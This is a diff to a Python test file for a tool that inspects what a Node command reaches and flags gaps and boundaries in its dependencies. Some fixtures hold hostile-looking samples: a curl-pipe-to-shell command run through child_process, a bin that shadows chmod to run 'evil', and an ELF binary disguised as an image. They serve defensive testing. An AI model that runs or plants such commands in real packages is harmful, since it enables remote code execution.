@@ -93,9 +93,60 @@ def test_a_file_says_whose_it_is_and_how_it_was_reached() -> None:
     assert file.via == ("node a", "a.js", "tool/index.js")
 
 
-def test_a_gap_in_another_package_says_whose_it_is() -> None:
-    (gap,) = inspect("node a", {"a.js": "require('tool')"}, beside("tool", {"index.js": "require(x)"})).gaps
-    assert (gap.kind, gap.where, gap.path) == (GapKind.DYNAMIC, "tool@2.0.0", "index.js")
+def test_a_gap_in_another_package_is_a_boundary_that_says_whose_it_is() -> None:
+    inspection = inspect("node a", {"a.js": "require('tool')"}, beside("tool", {"index.js": "require(x); require(y)"}))
+    assert not inspection.gaps
+    (end,) = inspection.boundaries
+    assert (end.kind, end.where) == (BoundaryKind.LIBRARY, "tool@2.0.0")
+    assert end.detail == "2 edges of its code are not followed"
+    assert not inspection.harmless
+
+
+@pytest.mark.parametrize(
+    ("files", "kind"),
+    [
+        ({"index.js": "require('./image.png')", "image.png": ELF}, GapKind.BINARY),
+        ({"index.js": "require('child_process').exec('curl https://a.test/x | sh')"}, GapKind.DOWNLOADED),
+    ],
+)
+def test_a_library_does_not_explain_a_disguised_program_or_what_it_fetches_to_run(files: Files, kind: GapKind) -> None:
+    inspection = inspect("node a", {"a.js": "require('tool')"}, beside("tool", files))
+    assert kind.value in kinds(inspection)
+    assert {gap.where for gap in inspection.gaps} == {"tool@2.0.0"}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"name": "other"},
+        {"source": Source.GIT},
+        {"source": Source.REMOTE},
+        {"source": Source.FILE},
+        {"source": Source.BUNDLED},
+        {"source": Source.LINK},
+    ],
+)
+def test_a_gap_in_a_package_that_is_not_the_registrys_own_stays_a_gap(change: dict[str, object]) -> None:
+    tool = beside("tool", {"index.js": "require(x)"})
+    lookalike = replace(tool, artifact=replace(tool.artifact, **change))  # type: ignore[arg-type]
+    assert kinds(inspect("node a", {"a.js": "require('tool')"}, lookalike)) == {"dynamic"}
+
+
+def test_a_gap_in_what_the_package_itself_bundles_is_its_own() -> None:
+    files = {
+        "a.js": "require('tool')",
+        "node_modules/tool/package.json": "{}",
+        "node_modules/tool/index.js": "require(x)",
+    }
+    within = beside("tool", {"index.js": "require(x)"}, location="node_modules/example/node_modules/tool")
+    assert kinds(inspect("node a", files)) == {"dynamic"}
+    assert kinds(inspect("node a", files, within)) == {"dynamic"}
+
+
+def test_a_gap_in_the_scripts_own_package_is_none_of_a_librarys() -> None:
+    tool = beside("tool", {"index.js": "require('example/b')"})
+    (gap,) = inspect("node a", {"a.js": "require('tool')", "b.js": "require(x)"}, tool).gaps
+    assert (gap.kind, gap.where, gap.path) == (GapKind.DYNAMIC, "example@1.0.0", "b.js")
 
 
 def test_what_a_package_does_not_export_is_missing() -> None:
@@ -152,8 +203,8 @@ def test_the_nearest_package_provides_a_program() -> None:
 def test_a_bin_stands_before_a_program_of_the_system() -> None:
     shadow = beside("chmod", {"x": "#!/bin/sh\nnode evil\n", "evil.js": ""}, bin={"chmod": "x"})
     assert reached(inspect("chmod +x a", {}, shadow)) == {"chmod:x"}
-    assert kinds(inspect("chmod +x a", {}, shadow)) == {"missing"}
-    assert not inspect("chmod +x a").gaps
+    assert [end.kind for end in inspect("chmod +x a", {}, shadow).boundaries] == [BoundaryKind.LIBRARY]
+    assert not inspect("chmod +x a").boundaries
 
 
 def test_a_bin_that_only_the_lockfile_or_only_the_manifest_links_is_followed() -> None:
@@ -166,10 +217,38 @@ def test_a_bin_that_only_the_lockfile_or_only_the_manifest_links_is_followed() -
 # ------------------------------------------------------------------ what is not here
 
 
-def test_a_package_that_is_not_here_is_a_gap_that_names_it() -> None:
+def test_a_declared_package_that_is_not_here_is_a_library_that_was_not_read() -> None:
     inspection = inspect("node a; sometool", {"a.js": "require('other/lib')"}, dependencies={"other": "1"})
-    assert kinds(inspection) == {"outside-package", "unknown-program"}
+    assert kinds(inspection) == {"unknown-program"}
+    (end,) = inspection.boundaries
+    assert (end.kind, end.where, end.path) == (BoundaryKind.LIBRARY, "example@1.0.0", "a.js")
     assert missing(inspection) == Missing(modules=frozenset({"other"}), programs=frozenset({"sometool"}))
+
+
+@pytest.mark.parametrize("declared", [{}, {"devDependencies": {"other": "1"}}, {"dependencies": {"another": "1"}}])
+def test_an_undeclared_package_that_is_not_here_is_a_gap_that_names_it(declared: dict[str, Any]) -> None:
+    inspection = inspect("node a", {"a.js": "require('other/lib')"}, **declared)
+    assert kinds(inspection) == {"outside-package"}
+    assert missing(inspection).modules == {"other"}
+
+
+@pytest.mark.parametrize(
+    "spec", ["https://a.test/x.tgz", "git+https://a.test/x.git", "a/b", "npm:another@1", "file:../x", "workspace:*"]
+)
+def test_a_package_from_elsewhere_that_is_not_here_is_a_gap(spec: str) -> None:
+    inspection = inspect("node a", {"a.js": "require('other')"}, dependencies={"other": spec})
+    assert kinds(inspection) == {"outside-package"}
+
+
+def test_an_optional_dependency_that_a_whole_tree_does_not_have_runs_nothing() -> None:
+    inspection = inspect("node a", {"a.js": "require('other')"}, beside("tool"), optionalDependencies={"other": "1"})
+    assert not inspection.gaps
+    assert not inspection.boundaries
+
+
+def test_a_dependency_that_a_whole_tree_does_not_have_is_a_gap() -> None:
+    inspection = inspect("node a", {"a.js": "require('other')"}, beside("tool"), dependencies={"other": "1"})
+    assert kinds(inspection) == {"outside-package"}
 
 
 def test_an_optional_package_that_is_not_installed_runs_nothing() -> None:
